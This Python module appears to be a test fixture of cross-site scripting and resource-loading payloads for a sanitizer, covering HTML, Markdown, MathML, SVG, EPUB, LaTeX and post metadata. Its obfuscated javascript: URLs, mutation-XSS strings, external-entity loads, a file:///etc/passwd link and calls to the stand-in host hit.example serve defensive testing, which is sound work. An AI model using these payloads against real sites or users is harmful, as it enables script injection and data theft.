"""Markup that runs a script, loads a file or sends a form, if it reaches a reader as it is.

Scripts call `hit()`; what is loaded is at `REMOTE`.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

REMOTE = "http://hit.example"
"""The beginning of all addresses, in place of which tests put that of a listener."""

_JS = "javascript:hit()"
_PAGE = "<script>parent.hit()</script>"
_X = 'xmlns="http://www.w3.org/1999/xhtml"'
_S = 'xmlns="http://www.w3.org/2000/svg"'
_M = 'xmlns="http://www.w3.org/1998/Math/MathML"'
_L = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
_SVG_SCRIPT = f"<svg {_S}><script>hit()</script></svg>"

MARKUP: tuple[str, ...] = (
    # Scripts under all names
    "<script>hit()</script>",
    f"<script {_X}>hit()</script>",
    f"<script\t{_X}>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script/x>hit()</script>",
    f'<script src="{REMOTE}/a.js"></script>',
    f'<script type="module">import "{REMOTE}/b.js"</script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit()</h:script>',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>hit()</s:script></s:svg>',
    f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{REMOTE}/c.xml"/></x>',
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script>hit()//",
    # Handlers of events
    "<p onclick='hit()' onmouseover='hit()' id='p1'>a</p>",
    "<img src='x' onerror='hit()'>",
    "<img src='x' onerror='hit()' alt='a'/>",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src='x'/onerror=hit()>",
    '<img src=x onerror="&#104;it()">',
    "<body onload='hit()' onpageshow='hit()'><p>a</p></body>",
    f"<svg {_S} onload='hit()'><rect/></svg>",
    "<svg/onload=hit()>",
    "<details open ontoggle='hit()'><summary>a</summary>b</details>",
    "<input autofocus onfocus='hit()'>",
    "<video onloadstart='hit()' src='x'></video>",
    "<video><source onerror='hit()' src='x'/></video>",
    "<audio onerror='hit()' src='x'></audio>",
    "<marquee onstart='hit()'>a</marquee>",
    "<style onload='hit()'></style>",
    "<div onanimationstart='hit()' style='animation: a 1s'>a</div>",
    "<p tabindex='1' autofocus='autofocus' onfocus='hit()'>a</p>",
    '<p title="x" on\u00e9="1" onclick\n=\n"hit()">a</p>',
    # Addresses that run
    f"<a href='{_JS}' id='a1'>a</a>",
    "<a href='JaVaScRiPt:hit()'>a</a>",
    "<a href=' javascript:hit()'>a</a>",
    "<a href='java&#10;script:hit()'>a</a>",
    "<a href='java&#9;script:hit()'>a</a>",
    "<a href='&#1;javascript:hit()'>a</a>",
    "<a href='javascript&colon;hit()'>a</a>",
    "<a href='&#106;&#97;vascript:hit()'>a</a>",
    "<a href='vbscript:hit()'>a</a>",
    f"<a href='data:text/html,{quote(_PAGE)}'>a</a>",
    f"<a href='data:text/html;base64,{base64.b64encode(_PAGE.encode()).decode()}'>a</a>",
    f"<a href='blob:{REMOTE}/a'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    f"<a href='https://a.example/' ping='{REMOTE}/ping' target='_top' download='a'>a</a>",
    "<area href='javascript:hit()' shape='default'/>",
    f"<map name='m'><area href='{_JS}'/></map>",
    "[a](javascript:hit())",
    "[a](<java\tscript:hit()>)",
    "![a](javascript:hit())",
    "<javascript:hit()>",
    f"[a]\n\n[a]: {_JS}",
    # Frames and plug-ins
    f"<iframe src='{REMOTE}/frame'></iframe>",
    f"<iframe src='{_JS}'></iframe>",
    '<iframe srcdoc="&lt;script>parent.hit()&lt;/script>"></iframe>',
    f"<object data='{_JS}'></object>",
    f"<object data='{REMOTE}/o' type='text/html'><p>a</p></object>",
    f"<embed src='{_JS}'>",
    f"<embed src='{REMOTE}/e' type='image/svg+xml'/>",
    f"<applet code='a' codebase='{REMOTE}/'></applet>",
    f"<frameset><frame src='{_JS}'></frameset>",
    "<portal src='https://a.example/'></portal>",
    # Documents
    f"<base href='{REMOTE}/'/><img src='base.png' alt='a'/>",
    f"<meta http-equiv='refresh' content='0;url={REMOTE}/refresh'>",
    f"<meta http-equiv='refresh' content='0;{_JS}'>",
    f"<link rel='stylesheet' href='{REMOTE}/l.css'>",
    f"<link rel='preload' as='image' href='{REMOTE}/l.png'>",
    f"<link rel='prefetch' href='{REMOTE}/prefetch'>",
    f"<?xml-stylesheet href='{REMOTE}/pi.css'?>",
    f"<!DOCTYPE a [<!ENTITY x SYSTEM '{REMOTE}/x'>]><p>&x;</p>",
    "<![CDATA[><script>hit()</script>]]>",
    "<!--><script>hit()</script>-->",
    "<!--!><img src=x onerror=hit()>-->",
    # Forms
    f"<form action='{_JS}' id='f'><button formaction='{_JS}'>a</button></form>",
    f"<form action='{REMOTE}/form'><input type='image' src='{REMOTE}/i.png'></form>",
    f"<isindex action='{_JS}' type='image'>",
    "<select autofocus onfocus='hit()'><option>a</option></select>",
    "<textarea autofocus onfocus='hit()'></textarea>",
    # What loads
    f"<img src='{REMOTE}/i1.png' alt='a'>",
    f"<img srcset='{REMOTE}/i2.png 1x' alt='a'>",
    f"<picture><source srcset='{REMOTE}/i3.png'><img src='x' alt='a'></picture>",
    f"<video poster='{REMOTE}/v.png' src='{REMOTE}/v.mp4' autoplay></video>",
    f"<audio src='{REMOTE}/a.mp3' autoplay></audio>",
    f"<track src='{REMOTE}/t.vtt'>",
    f"<body background='{REMOTE}/b.png'>a</body>",
    f"<table background='{REMOTE}/t.png'><tr><td background='{REMOTE}/d.png'>a</td></tr></table>",
    f'<p style="background: url({REMOTE}/s.png)">a</p>',
    f'<p style="background: u\\72l({REMOTE}/s2.png)">a</p>',
    f"<p style=\"background: image-set('{REMOTE}/s3.png' 1x)\">a</p>",
    f"<style>@import '{REMOTE}/s.css'; p {{ background: url({REMOTE}/s4.png) }}</style>",
    f"<p xml:base='{REMOTE}/'><img src='y.png' alt='a'/></p>",
    f"<p itemprop='image' content='{REMOTE}/p' is='a-b' slot='a'>a</p>",
    # Drawings and formulas in the text
    _SVG_SCRIPT,
    f"<svg {_S}><a href='{_JS}'><text y='20'>a</text></a></svg>",
    f"<svg {_S} {_L}><a xlink:href='{_JS}'><text y='20'>a</text></a></svg>",
    f"<svg {_S}><a><animate attributeName='href' values='{_JS}'/><text y='20'>a</text></a></svg>",
    f"<svg {_S}><a id='s'><set attributeName='href' to='{_JS}'/><text y='20'>a</text></a></svg>",
    f"<svg {_S}><image href='x'><set attributeName='onerror' to='hit()'/></image></svg>",
    f"<svg {_S}><use href='{REMOTE}/u.svg#a'/></svg>",
    f"<svg {_S}><image href='{REMOTE}/si.png' width='9' height='9'/></svg>",
    f"<svg {_S}><foreignObject><body {_X} onload='hit()'><script>hit()</script></body>"
    "</foreignObject></svg>",
    f"<svg {_S}><style>@import '{REMOTE}/ss.css';</style></svg>",
    f"<svg {_S}><rect fill='url({REMOTE}/f.svg#a)'/></svg>",
    f"<math {_M}><mtext><script {_X}>hit()</script></mtext></math>",
    f"<math {_M}><mtext><img {_X} src='x' onerror='hit()'/></mtext></math>",
    f"<math {_M}><mtext><iframe {_X} src='{REMOTE}/mi'></iframe></mtext></math>",
    f"<math {_M} href='{_JS}'><mi>a</mi></math>",
    f"<math {_M} {_L} xlink:href='{_JS}'><mi xlink:href='{_JS}'>a</mi></math>",
    f"<math {_M}><maction actiontype='statusline#{_JS}'><mi>a</mi><mtext>b</mtext></maction>"
    "</math>",
    f"<math {_M}><semantics><mi>a</mi><annotation-xml encoding='text/html'>"
    f"<script {_X}>hit()</script></annotation-xml></semantics></math>",
    f"<math {_M}><mglyph src='{REMOTE}/g.png' alt='a'/></math>",
    # Markup that XML and HTML, or a sanitizer and a browser, read otherwise
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=hit()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<title><p title='</title><img src=x onerror=hit()>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=hit()>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'></svg>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=hit() src>'>",
    "<select><template><script>hit()</script></template></select>",
    "<div><template shadowrootmode='open'><script>hit()</script></template></div>",
    "<p id='\"><script>hit()</script>' class='\"><script>hit()</script>'>a</p>",
    "<p lang='\"><script>hit()</script>' title='\"><script>hit()</script>'>a</p>",
    '``` "><script>hit()</script>\na\n```',
    '{: onclick="hit()" href="javascript:hit()" }\na',
    # Reading systems
    "<epub:switch xmlns:epub='http://www.idpf.org/2007/ops'><epub:default><script>hit()</script>"
    "</epub:default></epub:switch>",
    "<epub:trigger xmlns:epub='http://www.idpf.org/2007/ops' "
    "xmlns:ev='http://www.w3.org/2001/xml-events' action='play' ref='a' ev:event='click' "
    "ev:handler='javascript:hit()'/>",
    # Formulas
    f"$$\\text{{<script\t{_X}>hit()</script>}}$$",
    f"$$\\text{{<iframe src='{REMOTE}/t'></iframe><img src=x onerror=hit()>}}$$",
    f"$$\\href{{{_JS}}}{{x}} \\url{{{_JS}}}$$",
    '$$\\htmlData{onclick=hit()}{x} \\style{color:red}{y} \\class{"onload="hit()}{z}$$',
    f"$$\\includegraphics{{{REMOTE}/i.png}} x$$",
    "$$\\unicode{60}script\\unicode{62} \\&LT;script\\&GT; \\char60$$",
    "$$x \\tag{<script>hit()</script>}$$",
)
"""Each is a text of its own, since some leave elements open."""

METADATA: tuple[str, ...] = (
    'title: "</title><script>hit()</script>"',
    "title: '\"><img src=x onerror=hit()>'",
    'description: "\\"><script>hit()</script>"',
    'author: "<script>hit()</script>"',
    "author: {name: '<b onclick=hit()>a</b>', url: 'javascript:hit()'}",
    "lang: 'en\" onload=\"hit()'",
    "tags: ['<script>hit()</script>', '\" onclick=\"hit()']",
    "categories: '\"><script>hit()</script>'",
    "publisher: '</dc:publisher><script>hit()</script>'",
    "canonical_url: 'javascript:hit()'",
    "permalink: 'javascript:hit()'",
    "image: 'javascript:hit()'",
    "date: '<script>hit()</script>'",
    "disclaimer: '<script>hit()</script>'",
    "references: {entries: {'javascript:hit()': {title: '<script>hit()</script>'}}}",
    "rights: ']]></dc:rights><script>hit()</script>'",
)
"""Lines of a post's metadata block."""

_DOCTYPE = "<!DOCTYPE svg [<!ENTITY x '&#60;script>hit()&#60;/script>'>]>"
DRAWINGS: tuple[str, ...] = (
    _SVG_SCRIPT,
    f"<svg {_S} onload='hit()'><rect width='9' height='9'/></svg>",
    f"<svg {_S}><script href='{REMOTE}/s.js'/></svg>",
    f"<svg {_S} {_L}><script xlink:href='data:text/javascript,hit()'/></svg>",
    "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>hit()</x:script></x:svg>",
    f"<svg {_S}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>hit()</h:script></svg>",
    f"<svg {_S}><foreignObject width='9' height='9'><body {_X}><script>hit()</script>"
    f"<iframe src='{REMOTE}/sf'></iframe></body></foreignObject></svg>",
    f"<svg {_S}><a href='{_JS}'><rect width='9' height='9'/></a></svg>",
    f"<svg {_S}><a><animate attributeName='href' values='{_JS};{_JS}'/></a></svg>",
    f"<svg {_S} {_L}><a><set attributeName='xlink:href' to='{_JS}'/></a></svg>",
    f"<svg {_S}><set attributeName='onmouseover' to='hit()'/><rect width='9' height='9'/></svg>",
    f"<svg {_S}><animate onbegin='hit()' onend='hit()' attributeName='x' dur='1s'/></svg>",
    f"<svg {_S}><rect width='9' height='9' fill='red'><animate attributeName='fill' dur='1s' "
    f"values='url({REMOTE}/v.svg#a);red'/></rect></svg>",
    f"<svg {_S}><use href='{REMOTE}/u.svg#a'/><use href='data:image/svg+xml;base64,"
    f"{base64.b64encode(_SVG_SCRIPT.encode()).decode()}#a'/></svg>",
    f"<svg {_S}><image href='{REMOTE}/i.png' width='9' height='9'/></svg>",
    f"<svg {_S}><filter id='f'><feImage href='{REMOTE}/fe.png'/></filter></svg>",
    f"<svg {_S}><style>@import '{REMOTE}/c.css'; rect {{ fill: url({REMOTE}/d.svg#a) }}</style>"
    "<rect width='9' height='9'/></svg>",
    f"<svg {_S}><style>@\\69mport '{REMOTE}/e.css'; @font-face {{ font-family: a; "
    f"src: u\\72l({REMOTE}/f.woff) }} text {{ font-family: a }}</style><text y='9'>a</text></svg>",
    f"<svg {_S}><rect style='fill: image-set(\"{REMOTE}/g.png\" 1x)' cursor='url({REMOTE}/h.cur)'"
    " width='9' height='9'/></svg>",
    f"<?xml-stylesheet href='{REMOTE}/i.css'?><svg {_S}/>",
    f"<?xml-stylesheet type='text/xsl' href='data:text/xml,{quote('<a/>')}'?><svg {_S}/>",
    f"{_DOCTYPE}<svg {_S}><text y='9'>&x;</text></svg>",
    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'hit()'>]><svg {_S}><rect/></svg>",
    f"<!DOCTYPE svg SYSTEM '{REMOTE}/a.dtd'><svg {_S}><rect/></svg>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{REMOTE}/ent'>]><svg {_S}><text>&x;</text></svg>",
    f"<svg {_S} xml:base='{REMOTE}/'><image href='a.png' width='9' height='9'/></svg>",
    f"<svg {_S}><handler type='text/ecmascript' xmlns:ev='http://www.w3.org/2001/xml-events' "
    "ev:event='load'>hit()</handler></svg>",
    f"<svg {_S}><iframe xmlns='http://www.w3.org/1999/xhtml' src='{_JS}'/></svg>",
    f"<svg {_S}><video xmlns='http://www.w3.org/1999/xhtml' src='{REMOTE}/v'/></svg>",
    f"<svg {_S}><discard begin='0s' onload='hit()'/><listener handler='#a' event='load'/></svg>",
)
"""SVG files."""
